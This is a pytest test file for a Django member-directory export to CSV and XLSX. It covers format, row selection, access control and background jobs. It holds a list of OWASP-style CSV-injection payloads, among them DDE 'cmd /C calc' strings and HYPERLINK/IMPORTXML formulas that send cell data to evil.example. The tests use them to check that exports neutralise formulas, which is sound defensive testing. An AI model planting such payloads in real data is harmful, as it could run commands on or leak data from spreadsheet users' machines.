"""Export of a network's list as CSV and XLSX: exactly the list, German Excel's CSV dialect, no formulas, access."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from members import exports
from members.exports import export_rows, neutralise
from members.models import Contact, Membership, Organisation
from tests.members.test_import_support import io_url
from verbund.models import BackgroundJob

# ~20 payloads of the OWASP "CSV injection" kind, with whitespace and control characters in front.
FORMULA_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    " =1+1",
    "  +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r\n@x",
    '=DDE("cmd";"/C calc";"!A0")',
    "＝1+1",  # full-width equals: harmless, kept as text
    "=" * 5,
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline=""), delimiter=";"))


@pytest.fixture
def logged_in(client, manager_x):
    client.force_login(manager_x)
    return client


@pytest.fixture
def fees(world):
    membership = Membership.objects.get(organisation=world.org_a, network=world.network_x)
    Membership.objects.filter(pk=membership.pk).update(annual_fee=Decimal("1200.50"), joined_on=date(2024, 3, 1), role="manufacturer")
    Contact.objects.filter(organisation=world.org_a).update(phone="+49 5971 123456", function="Geschäftsführerin")


# --- what is exported ------------------------------------------------------------------


def test_csv_is_semicolon_separated_utf8_with_bom_and_crlf(logged_in, world, fees):
    response = logged_in.get(io_url("export") + "?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="mitglieder-netz-x-')
    assert response["X-Content-Type-Options"] == "nosniff"
    content = response.content
    assert content.startswith(b"\xef\xbb\xbfOrganisation;Art;")
    assert b"\r\n" in content and content.count(b"\n") == content.count(b"\r\n")
    rows = parse_csv(content)
    assert [row[0] for row in rows[1:]] == ["Alpha GmbH", "Beta KG"]
    alpha = dict(zip(rows[0], rows[1], strict=True))
    assert alpha["Rolle im Verbund"] == "Hersteller"
    assert alpha["Status"] == "Aktiv"
    assert alpha["Jahresbeitrag (EUR)"] == "1200,50"
    assert alpha["Eintritt"] == "01.03.2024"
    assert (alpha["Vorname"], alpha["Nachname"], alpha["E-Mail"]) == ("Mia", "member_a_x", "member_a_x@example.org")
    assert alpha["Telefon"] == "\u2060+49 5971 123456"  # a word joiner, not a visible quote: Excel shows it as written
    assert alpha["Funktion"] == "Geschäftsführerin"


def test_xlsx_has_typed_cells_and_the_same_rows(logged_in, world, fees):
    response = logged_in.get(io_url("export") + "?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:3] == ["Organisation", "Art", "Straße und Hausnummer"]
    alpha = dict(zip(rows[0], rows[1], strict=True))
    assert alpha["Organisation"] == "Alpha GmbH"
    assert alpha["Beschäftigte"] == 12
    assert alpha["Jahresbeitrag (EUR)"] == 1200.5
    assert alpha["Eintritt"].date() == date(2024, 3, 1)
    assert [row[0] for row in rows[1:]] == ["Alpha GmbH", "Beta KG"]


def test_trashed_memberships_and_other_networks_are_not_exported(logged_in, world):
    Membership.objects.filter(organisation=world.org_b).update(archived_at="2026-01-01T00:00:00Z")
    rows = parse_csv(logged_in.get(io_url("export") + "?format=csv").content)
    names = [row[0] for row in rows[1:]]
    assert names == ["Alpha GmbH"]
    assert "Gamma AG" not in str(rows)


def test_export_rows_exports_exactly_the_given_list_in_its_order(world):
    memberships = Membership.objects.for_network(world.network_x).filter(organisation__employees__gt=50).order_by("-organisation__name")
    headers, rows = export_rows(memberships)
    rows = list(rows)
    assert headers[0] == "Organisation"
    assert [row[0] for row in rows] == ["Beta KG"]
    ordered = list(export_rows(Membership.objects.for_network(world.network_x).order_by("-organisation__name"))[1])
    assert [row[0] for row in ordered] == ["Beta KG", "Alpha GmbH"]


def test_export_response_is_reusable_with_another_queryset(world, rf):
    queryset = Membership.objects.for_network(world.network_x).filter(organisation=world.org_b)
    response = exports.export_response(queryset=queryset, fmt="csv", filename="auswahl.csv")
    assert response["Content-Disposition"] == 'attachment; filename="auswahl.csv"'
    assert [row[0] for row in parse_csv(response.content)[1:]] == ["Beta KG"]


def test_an_unknown_format_is_answered_with_a_message(logged_in, world):
    response = logged_in.get(io_url("export") + "?format=pdf", follow=True)
    assert response.status_code == 200
    assert "Unbekanntes Format. Bitte wählen Sie Excel oder CSV." in response.text


def test_the_default_format_is_xlsx(logged_in, world):
    response = logged_in.get(io_url("export"))
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]


# --- formulas (QUALITY.md S-5) ------------------------------------------------------------


@pytest.mark.parametrize("payload", [" =1+1", "\t=1", "\r=1", "=1", "+1", "-1", "@1"])
def test_neutralise_prefixes_a_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Alpha GmbH", "", "1+1", "a=b", "’=1"])
def test_neutralise_keeps_harmless_text(value):
    assert neutralise(value) == value


@pytest.fixture
def poisoned(world):
    """Every exported text column of network X carries formula payloads, written past validation as an attacker might."""
    text_fields = ["name", "street", "postcode", "municipality", "district", "state", "website"]
    contact_fields = ["title", "first_name", "last_name", "function", "email", "phone"]

    def fitting(model, fields, payload):  # PostgreSQL enforces max_length even where validation is bypassed
        return {name: payload[: model._meta.get_field(name).max_length] for name in fields}

    for payload in FORMULA_PAYLOADS:
        organisation = Organisation.objects.create(**fitting(Organisation, text_fields, payload))
        Membership.objects.create(organisation=organisation, network=world.network_x)
        Contact.objects.create(organisation=organisation, is_primary=True, **fitting(Contact, contact_fields, payload))
    return len(FORMULA_PAYLOADS)


def test_no_csv_cell_starts_with_a_formula_character(logged_in, world, poisoned):
    rows = parse_csv(logged_in.get(io_url("export") + "?format=csv").content)
    assert len(rows) == 1 + 2 + poisoned
    cells = [cell for row in rows for cell in row]
    offending = [cell for cell in cells if cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS)]
    assert offending == []
    assert "'=1+1" in cells and "' =1+1" in cells and "'\t=1+1" in cells


def test_no_xlsx_cell_is_a_formula_or_starts_with_a_formula_character(logged_in, world, poisoned):
    content = logged_in.get(io_url("export") + "?format=xlsx").content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet.max_row == 1 + 2 + poisoned
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # Typed text cells, as written and without an apostrophe; Excel's quote-prefix flag keeps them text when edited.
    flagged = [cell for cell in cells if isinstance(cell.value, str) and (cell.value.startswith(TRIGGERS) or cell.value.lstrip().startswith(TRIGGERS))]
    assert flagged and all(cell.data_type == "s" and cell.quotePrefix for cell in flagged)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "=1+1" in texts and "'=1+1" not in texts


def test_an_imported_formula_never_reaches_an_export_as_a_formula(world):
    # Belt and braces: what the import refuses could still come in through the admin or the API.
    Organisation.objects.filter(pk=world.org_a.pk).update(name="=2+5")
    headers, rows = export_rows(Membership.objects.for_network(world.network_x))
    content = exports.write_csv(headers, rows)
    assert "'=2+5" in content.decode("utf-8-sig")


# --- large exports in the background ------------------------------------------------------------


@pytest.fixture
def eager_celery():
    from verbund.celery import app

    eager = app.conf.task_always_eager
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = eager


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _large_export(client, monkeypatch, capture, fmt: str = "csv") -> BackgroundJob:
    monkeypatch.setattr(exports, "INLINE_EXPORT_ROWS", 1)
    with capture(execute=True):
        response = client.get(io_url("export") + f"?format={fmt}")
    job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.EXPORT)
    assert response.status_code == 302
    assert response.url == io_url("job_detail", pk=job.pk)
    job.refresh_from_db()
    return job


def test_a_large_export_runs_in_celery_and_offers_a_download(logged_in, world, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks):
    job = _large_export(logged_in, monkeypatch, django_capture_on_commit_callbacks)
    assert job.status == BackgroundJob.Status.DONE
    assert (job.done, job.total) == (2, 2)
    page = logged_in.get(io_url("job_detail", pk=job.pk))
    assert io_url("job_download", pk=job.pk) in page.text
    download = logged_in.get(io_url("job_download", pk=job.pk))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    rows = parse_csv(b"".join(download.streaming_content))
    assert [row[0] for row in rows[1:]] == ["Alpha GmbH", "Beta KG"]
    htmx = logged_in.get(io_url("job_detail", pk=job.pk), HTTP_HX_REQUEST="true")
    assert htmx.status_code == 286


def test_a_background_export_keeps_the_list_as_it_was_requested(logged_in, world, monkeypatch, media, django_capture_on_commit_callbacks):
    monkeypatch.setattr(exports, "INLINE_EXPORT_ROWS", 1)
    logged_in.get(io_url("export") + "?format=xlsx")  # on_commit does not fire: the job waits
    job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.EXPORT)
    assert job.status == BackgroundJob.Status.PENDING
    # A membership moved to the trash meanwhile is left out; one added meanwhile is not in the list.
    Membership.objects.filter(organisation=world.org_b).update(archived_at="2026-01-01T00:00:00Z")
    Membership.objects.create(organisation=world.org_c, network=world.network_x)
    exports.export_run(job_id=job.pk)
    exports.export_run(job_id=job.pk)  # a redelivered task does nothing
    job.refresh_from_db()
    assert job.status == BackgroundJob.Status.DONE
    sheet = load_workbook(job.result_file.path).worksheets[0]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["Alpha GmbH"]


@pytest.mark.parametrize("persona", ["manager_y", "manager_xy", "member_a_x", "staff"])
def test_another_users_export_job_and_file_are_404(client, world, manager_x, monkeypatch, eager_celery, media, django_capture_on_commit_callbacks, persona):
    client.force_login(manager_x)
    job = _large_export(client, monkeypatch, django_capture_on_commit_callbacks)
    client.force_login(world.users[persona])
    assert client.get(io_url("job_detail", pk=job.pk)).status_code == 404
    download = client.get(io_url("job_download", pk=job.pk))
    assert download.status_code == 404
    assert b"Alpha GmbH" not in download.content


def test_a_manager_of_both_networks_exports_only_the_network_in_the_url(client, world):
    client.force_login(world.users["manager_xy"])
    url = io_url("export").replace("netz-x", "netz-y") + "?format=csv"
    rows = parse_csv(client.get(url).content)
    assert [row[0] for row in rows[1:]] == ["Gamma AG"]


# --- an export can be imported again ------------------------------------------------------------


def test_an_exported_csv_imports_again_as_duplicates_only(logged_in, world, fees):
    content = logged_in.get(io_url("export") + "?format=csv").content
    logged_in.post(io_url("import_upload"), {"file": SimpleUploadedFile("export.csv", content)})
    job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.IMPORT)
    mapping = job.params["mapping"]
    assert {"name", "street", "postcode", "municipality", "role", "status", "annual_fee", "first_name", "last_name", "email", "phone"} <= set(mapping)
    logged_in.post(io_url("import_mapping", pk=job.pk), {f"col_{index}": key for key, index in mapping.items()})
    preview = logged_in.get(io_url("import_preview", pk=job.pk))
    plan = preview.context["plan"]
    assert plan.errors == []
    assert plan.new_organisations == 0
    assert plan.new_contacts == 0


def test_export_is_exactly_the_directorys_filtered_list(client, world, manager_x):
    from django.urls import reverse

    from members.models import Membership

    Membership.objects.filter(organisation=world.org_b).update(status="paused")
    client.force_login(manager_x)
    response = client.get(reverse("io:export", args=["netz-x"]), {"format": "csv", "status": "paused"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["Beta KG"]
